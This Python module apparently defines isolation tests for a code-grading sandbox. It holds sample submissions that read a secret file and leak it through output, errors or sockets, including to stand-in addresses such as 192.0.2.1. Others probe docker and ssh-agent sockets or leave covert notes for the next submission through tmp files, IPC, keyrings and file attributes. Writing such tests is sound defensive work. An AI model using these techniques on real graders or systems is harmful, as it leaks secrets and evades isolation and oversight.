"""Attacks that tell what they saw to somebody outside, or to the submission graded next."""

from __future__ import annotations

import os
import sysconfig

from .case import Attack
from .parts import JAIL, STRICT, prizes, relays, where

_prize = prizes("read")
_relay = relays("read")

PRINTS = """
    def aside():
        print("seen:", list(range(3)))
"""
OWN_PAIR = """
    import socket

    def aside():
        one, two = socket.socketpair()
        one.sendall(b"seen")
        assert two.recv(9) == b"seen"
        one.close()
        two.close()
"""
OWN_NAMES = """
    import os

    def aside():
        os.mkdir("seen")
        assert os.listdir() == ["seen"]
        os.rmdir("seen")
"""
WRITABLE = os.access(sysconfig.get_paths()["purelib"], os.W_OK)

# Outside -----------------------------------------------------------------------------------------

OUT = (
    _prize(
        "secret_printed",
        """
        def found():
            print("seen:", open("@SECRET@").read())
            return True
        """,
        PRINTS,
        **JAIL,
    ),
    _prize(
        "secret_raised",
        """
        def found():
            text = open("@SECRET@").read()
            raise ValueError(text)
        """,
        """
        def aside():
            try:
                raise ValueError("seen")
            except ValueError as error:
                assert str(error) == "seen"
        """,
        **JAIL,
    ),
    _prize(
        "secret_in_the_name_of_an_error",
        """
        def found():
            name = open("@SECRET@").read().replace("-", "_")
            print(name.replace("_", "-"))
            raise type(name, (Exception,), {})
        """,
        """
        def aside():
            assert type("Seen", (Exception,), {}).__name__ == "Seen"
        """,
        **JAIL,
    ),
    _prize(
        "over_the_network",
        """
        import socket

        def found():
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
                connection.sendall(b"seen")
            return True
        """,
        OWN_PAIR,
        **{**JAIL, "says": "(?i)network|Connection refused|unreachable"},
    ),
    _prize(
        "over_the_network_by_hand",
        """
        import ctypes, socket, struct

        def found():
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.socket(2, 1, 0)
            address = struct.pack("=HHI8x", 2, socket.htons(@PORT@), socket.htonl(0x7F000001))
            if fd < 0 or libc.connect(fd, address, len(address)) < 0:
                raise OSError(ctypes.get_errno(), "connect")
            return libc.write(fd, b"seen", 4) == 4
        """,
        OWN_PAIR,
        **JAIL,
    ),
    _prize(
        "over_the_network_from_a_child",
        """
        import os, socket

        def found():
            pid = os.fork()
            if pid == 0:
                try:
                    socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"seen")
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)
        """,
        OWN_PAIR,
        **JAIL,
    ),
    _prize(
        "out_of_the_machine",
        """
        import socket

        def found():
            places = (socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")
            for family, address in places:
                with socket.socket(family, socket.SOCK_DGRAM) as out:
                    try:
                        out.connect((address, 53))
                        out.send(b"seen")
                        return True
                    except OSError:
                        pass
        """,
        OWN_PAIR,
        **STRICT,
    ),
    _prize(
        "interfaces",
        """
        import socket

        def found():
            return [name for _, name in socket.if_nameindex() if name != "lo"]
        """,
        OWN_PAIR,
        **STRICT,
    ),
    _prize(
        "odd_sockets",
        """
        import socket

        def found():
            # To the host of a virtual machine, to the kernel's ciphers, to the wire itself, …
            for number in (40, 38, 17, 31, 29, 41, 30, 21, 44, 45, 42):
                for kind in (1, 2, 3, 5):
                    try:
                        socket.socket(number, kind).close()
                        return number, kind
                    except OSError:
                        pass
        """,
        OWN_PAIR,
        **STRICT,
    ),
    _prize(
        "services_of_the_machine",
        """
        import glob, socket

        PLACES = ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                  "/run/systemd/private", "/run/containerd/containerd.sock", "/tmp/.X11-unix/*",
                  "/tmp/ssh-*/*", "/run/user/*/bus", "/run/podman/podman.sock")

        def found():
            for path in (p for place in PLACES for p in glob.glob(place)):
                with socket.socket(socket.AF_UNIX) as service:
                    try:
                        service.connect(path)
                        return path
                    except OSError:
                        pass
        """,
        OWN_PAIR,
        **STRICT,
    ),
    _prize(
        "loot_in_a_file",
        """
        def found():
            with open("@LOOT@/seen.txt", "w") as file:
                file.write("seen")
            return True
        """,
        OWN_NAMES,
        **JAIL,
    ),
    _prize(
        "loot_in_a_name",
        """
        import os

        def found():
            os.mkdir("@LOOT@/seen-1-2-3")
            return True
        """,
        OWN_NAMES,
        **JAIL,
    ),
    _prize(
        "loot_in_a_link",
        """
        import os

        def found():
            os.symlink("seen 1 2 3", "@LOOT@/link")
            return True
        """,
        OWN_NAMES,
        **JAIL,
    ),
    _prize(
        "loot_in_a_socket",
        """
        import os, socket

        def found():
            os.chdir("@LOOT@")
            with socket.socket(socket.AF_UNIX) as server:
                server.bind("socket")
            return True
        """,
        OWN_PAIR,
        **JAIL,
    ),
    _prize(
        "files_of_the_kit",
        """
        import os, pathlib
        import d2lgrade

        def found():
            here = pathlib.Path(d2lgrade.__file__).resolve()
            for top in (here.parent, *here.parents[1:4]):
                path = top / f"seen-{os.getpid()}.txt"
                try:
                    path.write_text("seen")
                    path.unlink()
                    return path
                except OSError:
                    pass
        """,
        OWN_NAMES,
        **JAIL,
    ),
)

# The next submission -----------------------------------------------------------------------------

NOTE = """
    import hashlib, os

    NAME = "note-" + hashlib.sha256(b"@LOOT@").hexdigest()[:20]

    def kept(path):
        \"\"\"Whether the note is there; takes it away.\"\"\"
        try:
            os.remove(path)
            return True
        except OSError:
            return False
"""


def _folder(name: str, place: str, **more: object) -> Attack:
    text = f"""
    PLACE = {place}

    def find():
        return kept(os.path.join(PLACE, NAME))

    def leave():
        with open(os.path.join(PLACE, NAME), "w") as file:
            file.write("seen")
"""
    return _relay(name, NOTE + text, OWN_NAMES, **more)


def _key(name: str, call: str, remove: str) -> Attack:
    """Leaves a System V object under a key of its own."""
    text = f"""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    KEY = int(NAME[5:12], 16)

    def get(flags):
        return libc.{call}

    def find():
        number = get(0)
        if number >= 0:
            libc.{remove}
        return number >= 0

    def leave():
        if get(0o1600) < 0:
            raise OSError(ctypes.get_errno(), "no such objects here")
"""
    return _relay(name, NOTE + text, OWN_PAIR, **JAIL)


NEXT = (
    _folder("note_in_its_folder", "'.'"),
    _folder("note_at_home", "os.path.expanduser('~')"),
    _folder("note_above_its_folder", "'..'", **JAIL),
    _folder("note_in_tmp", "'/tmp'", **JAIL),
    _folder("note_in_var_tmp", "'/var/tmp'", **JAIL),
    _folder("note_in_shared_memory", "'/dev/shm'", **where(os.access("/dev/shm", os.W_OK))),
    _folder("note_in_the_run_folder", "'/run'", **where(os.access("/run", os.W_OK))),
    _folder(
        "note_in_the_environment",
        "os.path.dirname(torch.__file__)",
        **where(WRITABLE),
    ),
    _folder(
        "note_among_compiled_files",
        "os.path.join(os.path.dirname(os.__file__), '__pycache__')",
        **where(os.access(os.path.join(os.path.dirname(os.__file__), "__pycache__"), os.W_OK)),
    ),
    _key("shared_memory_of_system_v", "shmget(KEY, 4096, flags)", "shmctl(number, 0, None)"),
    _key("semaphores_of_system_v", "semget(KEY, 1, flags)", "semctl(number, 0, 0, 0)"),
    _key("messages_of_system_v", "msgget(KEY, flags)", "msgctl(number, 0, None)"),
    _relay(
        "queue_of_posix",
        NOTE
        + """
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    QUEUE = ("/" + NAME).encode()

    def find():
        return libc.mq_unlink(QUEUE) == 0

    def leave():
        if libc.mq_open(QUEUE, os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
            raise OSError(ctypes.get_errno(), "no queues here")
        """,
        OWN_PAIR,
        **STRICT,
    ),
    _relay(
        "key_in_the_kernel",
        NOTE
        + """
    import ctypes, platform

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    ADD, CONTROL = (248, 250) if platform.machine() == "x86_64" else (217, 219)
    RING = ctypes.c_long(-4)  # the keys of this user

    def find():
        key = libc.syscall(CONTROL, 10, RING, b"user", NAME.encode(), 0)
        if key >= 0:
            libc.syscall(CONTROL, 9, key, RING)
        return key >= 0

    def leave():
        if libc.syscall(ADD, b"user", NAME.encode(), b"seen", ctypes.c_long(4), RING) < 0:
            raise OSError(ctypes.get_errno(), "no keys here")
        """,
        OWN_NAMES,
        **STRICT,
    ),
    _relay(
        "attribute_of_a_file",
        NOTE
        + """
    def find():
        try:
            os.removexattr(torch.__file__, "user." + NAME)
            return True
        except OSError:
            return False

    def leave():
        os.setxattr(torch.__file__, "user." + NAME, b"seen")
        """,
        OWN_NAMES,
        **STRICT,
    ),
    _relay(
        "note_in_a_module",
        NOTE
        + """
    import sys

    def find():
        return hasattr(torch, "seen") or NAME in sys.modules or NAME in os.environ

    def leave():
        torch.seen = sys.modules[NAME] = os
        os.environ[NAME] = "seen"
        """,
        """
        import sys

        def aside():
            sys.modules["note"] = torch
            del sys.modules["note"]
        """,
    ),
)

ATTACKS: tuple[Attack, ...] = (*OUT, *NEXT)
